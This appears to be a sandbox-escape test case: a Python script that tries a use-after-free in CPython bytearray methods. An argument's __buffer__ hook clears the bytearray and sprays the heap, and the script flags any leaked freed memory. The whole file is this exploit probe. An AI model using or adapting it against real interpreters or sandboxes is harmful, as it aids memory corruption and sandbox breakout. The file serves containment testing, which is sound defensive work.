# id: bytearray-search-uaf
# class: bypass-limit
# expect: contained
# technique: freed memory through methods of a bytearray whose argument's __buffer__ clears it
# source: own
# verified: no
keep = []
def run(name, *more):
    ba = bytearray(b'A' * 3000 + b'-' + b'C' * 200)
    class E:
        def __buffer__(self, flags):
            try: ba.clear()
            except BufferError as e: pass
            keep.append([bytes([66]) * 3190 for _ in range(5)])
            return memoryview(b'-')
    try:
        r = getattr(ba, name)(E(), *more)
        s = repr(r)
        print(name, s[:60])
        if 'xdb' in s or 'BBBB' in s: print('ESCAPED:bytearray-search-uaf freed memory by', name)
    except Exception as e: print(name, type(e).__name__, e)
for n in ('find', 'rfind', 'index', 'count', 'split', 'rsplit', 'partition', 'rpartition', 'startswith', 'endswith', 'strip', 'lstrip', 'rstrip', 'removeprefix', 'removesuffix', '__contains__', 'extend', '__add__', '__iadd__', '__eq__', '__lt__', 'join', 'hex'):
    run(n)
run('replace', b'+'); run('translate', b'A')
def arg2(name, first):
    ba = bytearray(b'A' * 3000 + b'-' + b'C' * 200)
    class E:
        def __buffer__(self, flags):
            try: ba.clear()
            except BufferError as e: pass
            keep.append([bytes([66]) * 3190 for _ in range(5)])
            return memoryview(b'-')
    try:
        s = repr(getattr(ba, name)(first, E())); print(name, s[:60])
        if 'xdb' in s or 'BBBB' in s: print('ESCAPED:bytearray-search-uaf freed memory by', name)
    except Exception as e: print(name, type(e).__name__, e)
arg2('replace', b'-'); arg2('translate', None)
